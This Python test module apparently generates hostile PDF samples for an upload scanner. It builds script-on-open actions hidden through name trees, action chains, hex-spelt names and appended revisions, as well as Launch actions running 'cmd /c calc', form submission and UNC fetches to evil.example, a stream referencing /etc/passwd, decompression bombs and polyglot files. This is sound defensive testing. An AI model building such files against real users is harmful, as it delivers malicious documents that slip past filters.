"""Hostile PDFs: a harmless one with one thing added, or bytes around or instead of it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from functools import partial
from typing import Any, Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from core.uploads import Reason
from tests.uploads import harmless
from tests.uploads.hostile import Hostile
from tests.uploads.hostile_kinds import SCRIPT, zlib_bomb

Change = Callable[[Pdf], object]
CODE: Final = "app.launchURL('https://evil.example')"


def on_opening(**action: Any) -> Change:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(**action)

    return change


def annotated(**annotation: Any) -> Change:
    def change(document: Pdf) -> None:
        made = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **annotation)
        document.pages[0].Annots.append(document.make_indirect(made))

    return change


def attached(document: Pdf) -> None:
    document.attachments["证书.exe"] = b"MZ"


def script_by_name(document: Pdf) -> None:
    """As a name tree has it: run when the document is opened."""
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(CODE)))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def script_in_a_stream(document: Pdf) -> None:
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=document.make_stream(CODE.encode())))


def script_of_a_page(document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(CODE)))


def script_behind_a_chain(document: Pdf) -> None:
    """The first action is harmless, the one after the next is not."""
    last = Dictionary(S=Name.JavaScript, JS=String(CODE))
    document.Root.OpenAction = Dictionary(
        S=Name.Named, N=Name.NextPage, Next=Array([Dictionary(S=Name.Named, N=Name.PrevPage, Next=last)])
    )


def collected(document: Pdf) -> None:
    document.Root.Collection = Dictionary(View=Name.D)


def dynamic_form(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=[], XFA=document.make_stream(b"<xdp:xdp/>"))


def elsewhere(document: Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = String("/etc/passwd")
    document.pages[0].Contents = stream


def packed(data: bytes, filters: Any = Name.FlateDecode, **keys: Any) -> Change:
    def change(document: Pdf) -> None:
        stream = document.make_stream(data, **keys)
        stream.Filter = filters
        document.pages[0].Resources.XObject.Im1 = stream

    return change


def nested(document: Pdf) -> None:
    inner: Any = Array([])
    for _ in range(490):
        inner = Array([inner, 1])
    document.Root.Deep = inner
    document.Root.Deeper = Dictionary(S=Name.JavaScript)


def crowded(document: Pdf) -> None:
    document.Root.Crowd = Object.parse(b"[" + b"<<>>" * 200_001 + b"]")


ACTING: Final[dict[str, Change]] = {
    "打开即运行脚本": on_opening(S=Name.JavaScript, JS=String(CODE)),
    "脚本在名称树": script_by_name,
    "脚本在流中": script_in_a_stream,
    "脚本在页面动作": script_of_a_page,
    "脚本在动作链之后": script_behind_a_chain,
    "脚本在批注": annotated(Subtype=Name.Link, A=Dictionary(S=Name.JavaScript, JS=String(CODE))),
    "脚本在表单域": annotated(
        Subtype=Name.Widget, AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(CODE)))
    ),
    "脚本在嵌套深处": nested,
    "启动程序": on_opening(S=Name.Launch, F=String("calc.exe")),
    "启动程序（Windows 参数）": on_opening(
        S=Name.Launch, Win=Dictionary(F=String("cmd"), P=String("/c calc"))
    ),
    "提交表单": on_opening(S=Name.SubmitForm, F=String("https://evil.example")),
    "导入数据": on_opening(S=Name.ImportData, F=String("a.fdf")),
    "三维脚本": on_opening(S=Name("/RichMediaExecute")),
    "动态表单（XFA）": dynamic_form,
}
HOLDING: Final[dict[str, Change]] = {
    "附件": attached,
    "附件在批注": annotated(
        Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("a.exe"))
    ),
    "文件包": collected,
    "富媒体": annotated(Subtype=Name.RichMedia),
    "屏幕批注": annotated(Subtype=Name.Screen),
    "三维模型": annotated(Subtype=Name("/3D")),
    "声音": annotated(Subtype=Name.Sound),
    "声音动作": on_opening(S=Name.Sound),
    "视频动作": on_opening(S=Name.Movie),
    "播放动作": on_opening(S=Name.Rendition),
}
FETCHING: Final[dict[str, Change]] = {
    "打开另一文件": on_opening(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf")),
    "打开内嵌文件": on_opening(S=Name.GoToE, F=String("a.pdf")),
    "链接是脚本": annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
    "链接是脚本：前有空白": annotated(
        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(" \n\tJaVaScRiPt:alert(1)"))
    ),
    "链接是本机文件": annotated(
        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe"))
    ),
    "链接是共享文件夹": annotated(
        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("\\\\evil.example\\share"))
    ),
    "链接是数据": annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("data:text/html,a"))),
    "内容在另一文件": elsewhere,
}
BOMBS: Final[dict[str, Change]] = {
    "内容压缩炸弹": packed(zlib_bomb(160)),
    "双重压缩": packed(zlib.compress(zlib_bomb(64)), Array([Name.FlateDecode, Name.FlateDecode])),
    "多种压缩叠用": packed(b"\x80", Array([Name.LZWDecode, Name.RunLengthDecode])),
    "图片像素炸弹": packed(b"", Name.CCITTFaxDecode, Subtype=Name.Image, Width=100_000, Height=100_000),
    "对象过多": crowded,
}


def locked(user: str = "") -> bytes:
    how = pikepdf.Encryption(owner="secret", user=user, R=3, aes=False, metadata=False)
    return harmless.pdf(encryption=how, stream_decode_level=None)


def spelt_otherwise() -> bytes:
    """Names may be written with numbers for letters."""
    plain = harmless.pdf(
        on_opening(S=Name.JavaScript, JS=String(CODE)), object_stream_mode=pikepdf.ObjectStreamMode.disable
    )
    return plain.replace(b"/S /JavaScript", b"/S /J#61va#53cript").replace(b"/JS ", b"/J#53 ")


def written_over() -> bytes:
    """A second version behind the first, in which the document opens with a script."""
    first = harmless.pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    at = first.rindex(b"startxref") + len(b"startxref")
    before = int(first[at:].split()[0])
    with pikepdf.open(io.BytesIO(first)) as document:
        root, size = document.Root.objgen[0], int(document.trailer.Size)
        pages = document.Root.Pages.objgen[0]
    start = len(first)
    second = (
        f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R "
        f"/OpenAction << /S /JavaScript /JS ({CODE}) >> >>\nendobj\n"
    ).encode()
    table = (
        f"xref\n{root} 1\n{start:010} 00000 n \ntrailer\n<< /Size {size} /Root {root} 0 R /Prev {before} >>\n"
    )
    return first + second + f"{table}startxref\n{start + len(second)}\n%%EOF\n".encode()


def object_bomb() -> bytes:
    """Objects that are packed a thousand times over are unpacked before anything can be asked of them."""
    packed_objects = zlib_bomb(160)
    head = f"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed_objects)} >>\n"
    body = b"%PDF-1.7\n" + head.encode() + b"stream\n" + packed_objects + b"\nendstream\nendobj\n"
    index = b"".join(
        [
            b"\0" * 5,
            b"\2" + (7).to_bytes(3, "big") + b"\0",
            *[b"\0" * 5] * 5,
            b"\1" + (9).to_bytes(3, "big") + b"\0",
        ]
    )
    start = len(body)
    table = (
        f"8 0 obj\n<< /Type /XRef /Size 8 /W [1 3 1] /Root 1 0 R /Length {len(index)} >>\nstream\n".encode()
    )
    return body + table + index + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


def documents() -> list[Hostile]:
    groups = (
        (ACTING, Reason.ACTIVE),
        (HOLDING, Reason.EMBEDDED),
        (FETCHING, Reason.EXTERNAL),
        (BOMBS, Reason.BOMB),
    )
    changed = [
        Hostile(f"PDF：{about}", "a.pdf", partial(harmless.pdf, change), reason)
        for group, reason in groups
        for about, change in group.items()
    ]
    zipped = harmless.package({"a.txt": b"a"})
    made: dict[str, tuple[Callable[[], bytes], Reason]] = {
        "须密码打开": (lambda: locked("secret"), Reason.ENCRYPTED),
        "限制权限": (locked, Reason.ENCRYPTED),
        "脚本名称用编码拼写": (spelt_otherwise, Reason.ACTIVE),
        "脚本在后加的版本": (written_over, Reason.ACTIVE),
        "脚本在对象流": (
            lambda: harmless.pdf(script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            Reason.ACTIVE,
        ),
        "对象流压缩炸弹": (object_bomb, Reason.DAMAGED),
        "页数过多": (lambda: harmless.pdf(pages=1_001), Reason.TOO_LARGE),
        "没有页": (lambda: harmless.pdf(lambda document: document.pages.__delitem__(0)), Reason.DAMAGED),
        "只有开头": (lambda: b"%PDF-1.7\n", Reason.DAMAGED),
        "只有一半": (lambda: harmless.pdf()[:400], Reason.DAMAGED),
        "乱码": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20, Reason.DAMAGED),
        "页树成环": (looped, Reason.DAMAGED),
        "后接压缩包": (lambda: harmless.pdf() + zipped, Reason.MIXED),
        "后接压缩包和空白": (lambda: harmless.pdf() + zipped + b"\n" * 500, Reason.MIXED),
        "后接网页": (lambda: harmless.pdf() + SCRIPT.encode(), Reason.MIXED),
        "后接程序": (lambda: harmless.pdf() + b"\nMZ\x90\0" + bytes(100), Reason.MIXED),
        "开头注释是网页": (
            lambda: b"%PDF-1.7\n%<html>" + SCRIPT.encode() + b"\n" + harmless.pdf()[9:],
            Reason.MIXED,
        ),
    }
    return changed + [
        Hostile(f"PDF：{about}", "a.pdf", make, reason) for about, (make, reason) in made.items()
    ]


def looped() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Count 1 /Kids [2 0 R] >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n"
    )
